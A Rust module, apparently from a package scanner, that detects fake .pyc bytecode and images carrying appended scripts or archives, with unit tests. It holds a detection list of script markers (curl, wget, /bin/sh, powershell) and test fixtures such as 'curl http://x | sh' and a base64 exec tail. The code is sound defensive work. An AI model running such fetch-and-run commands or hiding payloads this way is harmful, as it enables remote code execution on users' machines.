//! Binary members that carry something other than what their name says: `.pyc`/`.pyo`
//! files whose bytes are not CPython bytecode (a zip, gzip, ELF/PE, a plain script), and
//! small images (PNG, JPEG) with a script, archive or executable appended after their
//! real end (after `IEND`, after `EOI`).
//!
//! Owns: those two byte-level checks, run by the engine on each binary member's head.
//! Must not: read more than the head the walker kept (an image is judged only when the
//! head is the whole member: small and cheap), walk archives, or decide anything — the
//! engine reports what it returns under the metas in [`super::anomaly`].

use super::roles;

/// What a member carries, as the engine reports it.
#[derive(Debug, PartialEq, Eq)]
pub(crate) enum Carried {
    /// A `.pyc`/`.pyo` that is not bytecode: what it is instead.
    NotBytecode(String),
    /// An image with data after its end: the format, the offset and what the data is.
    Appended { format: &'static str, offset: usize, what: &'static str },
}

/// What the bytes are, when they are something that runs or unpacks.
fn what(data: &[u8]) -> Option<&'static str> {
    if let Some(native) = roles::native_magic(data) {
        return Some(match native {
            "ELF" => "an ELF executable",
            "PE" => "a Windows PE executable",
            _ => "a Mach-O executable",
        });
    }
    Some(match data {
        [b'P', b'K', 3, 4, ..] | [b'P', b'K', 5, 6, ..] => "a zip archive",
        [0x1f, 0x8b, ..] => "a gzip stream",
        [b'B', b'Z', b'h', ..] => "a bzip2 stream",
        [0xfd, b'7', b'z', b'X', b'Z', 0, ..] => "an xz stream",
        [b'7', b'z', 0xbc, 0xaf, ..] => "a 7z archive",
        [b'M', b'Z', ..] => "a DOS/Windows executable",
        _ => return script(data),
    })
}

const SCRIPT_MARKS: &[&str] = &[
    "import ",
    "exec(",
    "eval(",
    "#!",
    "powershell",
    "os.system",
    "subprocess",
    "def ",
    "__import__",
    "/bin/sh",
    "curl ",
    "wget ",
];

/// Printable text that reads like code, or a long base64 blob.
fn script(data: &[u8]) -> Option<&'static str> {
    let head = &data[..data.len().min(4096)];
    let head = head.trim_ascii_start();
    if head.len() < 16 {
        return None;
    }
    let printable = head.iter().filter(|b| b.is_ascii_graphic() || b.is_ascii_whitespace()).count();
    if printable * 100 < head.len() * 95 {
        return None;
    }
    let text = String::from_utf8_lossy(head);
    if SCRIPT_MARKS.iter().any(|m| text.contains(m)) {
        return Some("a script");
    }
    let b64 = head
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'\n' | b'\r'))
        .count();
    (b64 >= 64 && b64 * 10 >= head.len() * 9).then_some("base64-encoded data")
}

/// A `.pyc`/`.pyo` whose head is not a CPython bytecode header (2-byte magic, `\r\n`).
pub(crate) fn fake_bytecode(path: &str, head: &[u8]) -> Option<Carried> {
    let lower = path.to_ascii_lowercase();
    if !(lower.ends_with(".pyc") || lower.ends_with(".pyo")) || head.len() < 4 {
        return None;
    }
    if head[2..4] == *b"\r\n" {
        return None;
    }
    let is = what(head).map_or_else(|| "not CPython bytecode".to_string(), |w| format!("{w}, not CPython bytecode"));
    Some(Carried::NotBytecode(is))
}

/// End of a PNG (after the `IEND` chunk's CRC), walking its chunks.
fn png_end(d: &[u8]) -> Option<usize> {
    if !d.starts_with(b"\x89PNG\r\n\x1a\n") {
        return None;
    }
    let mut i = 8usize;
    loop {
        let len = u32::from_be_bytes(d.get(i..i + 4)?.try_into().ok()?) as usize;
        let kind = d.get(i + 4..i + 8)?;
        i = i.checked_add(12)?.checked_add(len)?;
        if kind == b"IEND" {
            return (i <= d.len()).then_some(i);
        }
        if i > d.len() {
            return None;
        }
    }
}

/// End of a JPEG (after `EOI`), walking its segments and the entropy-coded data.
fn jpeg_end(d: &[u8]) -> Option<usize> {
    if !d.starts_with(&[0xff, 0xd8]) {
        return None;
    }
    let mut i = 2usize;
    loop {
        while d.get(i) == Some(&0xff) && d.get(i + 1) == Some(&0xff) {
            i += 1; // fill bytes
        }
        if *d.get(i)? != 0xff {
            return None;
        }
        let m = *d.get(i + 1)?;
        i += 2;
        match m {
            0xd9 => return Some(i),
            0x01 | 0xd0..=0xd7 => continue,
            _ => {}
        }
        let len = u16::from_be_bytes([*d.get(i)?, *d.get(i + 1)?]) as usize;
        i = i.checked_add(len)?;
        if m == 0xda {
            // Entropy-coded data: up to the next marker that is not a stuffed 0 or a restart.
            loop {
                let k = memchr::memchr(0xff, d.get(i..)?)?;
                i += k;
                match *d.get(i + 1)? {
                    0x00 | 0xd0..=0xd7 => i += 2,
                    _ => break,
                }
            }
        }
    }
}

/// An image whose whole bytes (`data.len() == size`) go on past the image's end with
/// something that runs or unpacks.
pub(crate) fn appended_payload(path: &str, data: &[u8], size: u64) -> Option<Carried> {
    if data.len() as u64 != size {
        return None;
    }
    let lower = path.to_ascii_lowercase();
    let (format, end) = if lower.ends_with(".png") {
        ("PNG", png_end(data)?)
    } else if lower.ends_with(".jpg") || lower.ends_with(".jpeg") {
        ("JPEG", jpeg_end(data)?)
    } else {
        return None;
    };
    let what = what(data.get(end..)?)?;
    Some(Carried::Appended { format, offset: end, what })
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    /// A minimal valid PNG (1×1, one IDAT), for tests here and in the engine.
    pub(crate) fn png() -> Vec<u8> {
        let mut v = b"\x89PNG\r\n\x1a\n".to_vec();
        for (kind, body) in
            [(&b"IHDR"[..], &[0u8, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0][..]), (b"IDAT", b"x\x9c"), (b"IEND", b"")]
        {
            v.extend((body.len() as u32).to_be_bytes());
            v.extend(kind);
            v.extend(body);
            v.extend([0, 0, 0, 0]); // CRC (not checked)
        }
        v
    }

    fn jpeg() -> Vec<u8> {
        let mut v = vec![0xff, 0xd8, 0xff, 0xe0, 0, 4, b'J', b'F'];
        v.extend([0xff, 0xda, 0, 2, 0x12, 0xff, 0x00, 0x34, 0xff, 0xd3, 0x56]);
        v.extend([0xff, 0xd9]);
        v
    }

    #[test]
    fn tells_bytecode_from_disguised_payloads() {
        let script = b"import os\nos.system('curl http://x | sh')\n".to_vec();
        let cases: Vec<(&str, &str, Vec<u8>, Option<&str>)> = vec![
            (
                "real 3.12 bytecode",
                "pkg/__pycache__/a.cpython-312.pyc",
                vec![0xcb, 0x0d, b'\r', b'\n', 0, 0, 0, 0],
                None,
            ),
            ("python 2 bytecode", "pkg/a.pyc", vec![0x03, 0xf3, b'\r', b'\n', 1, 2, 3, 4], None),
            ("a zip", "pkg/a.pyc", b"PK\x03\x04rest of zip".to_vec(), Some("a zip archive, not CPython bytecode")),
            ("a gzip", "pkg/b.pyo", vec![0x1f, 0x8b, 8, 0, 0, 0], Some("a gzip stream, not CPython bytecode")),
            ("an ELF", "pkg/c.pyc", b"\x7fELF\x02\x01\x01".to_vec(), Some("an ELF executable, not CPython bytecode")),
            ("a script", "pkg/d.pyc", script.clone(), Some("a script, not CPython bytecode")),
            ("other bytes", "pkg/e.pyc", vec![1, 2, 3, 4, 5], Some("not CPython bytecode")),
            ("not a pyc", "pkg/e.bin", b"PK\x03\x04".to_vec(), None),
            ("too short to tell", "pkg/e.pyc", vec![1, 2], None),
        ];
        for (name, path, data, want) in cases {
            let got = fake_bytecode(path, &data).map(|c| match c {
                Carried::NotBytecode(s) => s,
                other => panic!("{other:?}"),
            });
            assert_eq!(got.as_deref(), want, "case {name}");
        }
    }

    #[test]
    fn finds_payloads_after_the_end_of_images() {
        let tail = b"\nimport base64;exec(base64.b64decode('aW1wb3J0IG9z'))\n";
        let with = |img: Vec<u8>, t: &[u8]| {
            let mut v = img;
            v.extend(t);
            v
        };
        let png_len = png().len();
        let jpg_len = jpeg().len();
        /// (case, path, bytes, member size when more than the bytes, expected)
        type Case<'a> = (&'a str, &'a str, Vec<u8>, Option<u64>, Option<Carried>);
        let cases: Vec<Case> = vec![
            (
                "png + script",
                "pkg/logo.png",
                with(png(), tail),
                None,
                Some(Carried::Appended { format: "PNG", offset: png_len, what: "a script" }),
            ),
            (
                "png + zip",
                "pkg/a.PNG",
                with(png(), b"PK\x03\x04....more"),
                None,
                Some(Carried::Appended { format: "PNG", offset: png_len, what: "a zip archive" }),
            ),
            (
                "jpeg + script",
                "pkg/b.jpg",
                with(jpeg(), tail),
                None,
                Some(Carried::Appended { format: "JPEG", offset: jpg_len, what: "a script" }),
            ),
            ("clean png", "pkg/logo.png", png(), None, None),
            ("clean jpeg", "pkg/b.jpeg", jpeg(), None, None),
            ("png + zero padding", "pkg/logo.png", with(png(), &[0; 64]), None, None),
            ("only the head was kept", "pkg/logo.png", with(png(), tail), Some(1 << 20), None),
            ("truncated png", "pkg/logo.png", png()[..20].to_vec(), None, None),
        ];
        for (name, path, data, size, want) in cases {
            let size = size.unwrap_or(data.len() as u64);
            assert_eq!(appended_payload(path, &data, size), want, "case {name}");
        }
    }
}
